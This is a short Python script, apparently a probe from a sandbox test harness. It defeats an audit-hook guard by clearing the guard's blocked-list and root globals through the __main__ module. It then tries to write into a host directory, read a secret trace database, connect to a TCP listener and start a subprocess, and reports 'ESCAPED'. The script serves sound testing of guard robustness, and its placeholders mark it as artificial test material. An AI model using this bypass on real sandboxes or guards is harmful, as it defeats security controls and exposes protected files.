"""hook: empty the audit hook's tables through the __main__ module, then do what it forbade.

A hook defined at the top of the interpreter's -c program keeps _BLOCKED and _ROOT in
__main__'s globals; the program's own globals are a different dict, but sys.modules has both.
"""

import os
import re
import sys

CANARY_DIR = "__CANARY_DIR__"
SECRET_FILE = "__SECRET_FILE__"
TCP_PORT = int("__TCP_PORT__")


def forbidden():
    """The things a guard exists to stop; returns those that worked."""
    wins = []
    try:
        with open(os.path.join(CANARY_DIR, "hook-pwned.txt"), "w") as f:
            f.write("pwned")
        wins.append("wrote into a host directory")
    except Exception as exc:
        print(f"write: {type(exc).__name__}: {exc}")
    try:
        with open(SECRET_FILE, "rb") as f:
            data = f.read()
        wins.append(
            "read the trace database: "
            + " ".join(re.findall(r"[ -~]{12,}", data.decode("latin-1")))[-300:]
        )
    except Exception as exc:
        print(f"read: {type(exc).__name__}: {exc}")
    try:
        import socket

        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1) as s:
            s.sendall(b"hook bypass")
        wins.append("connected to a TCP listener")
    except Exception as exc:
        print(f"socket: {type(exc).__name__}: {exc}")
    try:
        import subprocess

        out = subprocess.run(
            [sys.executable, "-c", "print('child ran')"], capture_output=True, timeout=2
        ).stdout
        if b"child ran" in out:
            wins.append("started a process")
    except Exception as exc:
        print(f"subprocess: {type(exc).__name__}: {exc}")
    return wins


main_globals = vars(sys.modules["__main__"])
print(
    "guard names in __main__:",
    sorted(k for k in main_globals if k.startswith("_") and not k.startswith("__")),
)
if "_BLOCKED" in main_globals:
    main_globals["_BLOCKED"] = ()
    main_globals["_ROOT"] = ""
    print("emptied _BLOCKED and _ROOT")
wins = forbidden()
if wins:
    print("ESCAPED: " + "; ".join(wins))
